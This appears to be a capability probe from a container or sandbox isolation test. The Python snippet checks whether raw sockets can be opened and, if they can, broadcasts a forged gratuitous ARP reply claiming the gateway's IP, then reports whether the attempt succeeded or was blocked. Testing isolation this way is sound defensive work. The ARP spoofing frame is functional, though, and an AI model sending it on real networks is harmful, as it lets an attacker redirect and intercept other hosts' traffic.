# Opens raw sockets (NET_RAW); if one opens, sends a gratuitous ARP reply claiming the gateway's IP.
import socket, struct
outcomes, packet_socket = [], None
for label, family, kind, proto in (("AF_PACKET/SOCK_RAW", socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)), ("AF_INET/SOCK_RAW/ICMP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)):
    try:
        sock = socket.socket(family, kind, proto)
        outcomes.append("%s: opened" % label)
        if family == socket.AF_PACKET:
            packet_socket = sock
        else:
            sock.close()
    except OSError as error:
        outcomes.append("%s: %s" % (label, errname(error.errno)))
if packet_socket is not None and ARGS.get("spoof_ip"):
    try:
        iface = ARGS.get("interface", "eth0")
        packet_socket.bind((iface, 0))
        mac = packet_socket.getsockname()[4]
        ip = socket.inet_aton(ARGS["spoof_ip"])
        frame = b"\xff" * 6 + mac + struct.pack("!H", 0x0806) + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + ip + b"\xff" * 6 + ip
        packet_socket.send(frame)
        outcomes.append("sent ARP reply claiming %s is at %s" % (ARGS["spoof_ip"], mac.hex(":")))
    except OSError as error:
        outcomes.append("ARP send: %s" % errname(error.errno))
report("succeeded" if any("opened" in o for o in outcomes) else "blocked", "; ".join(outcomes))
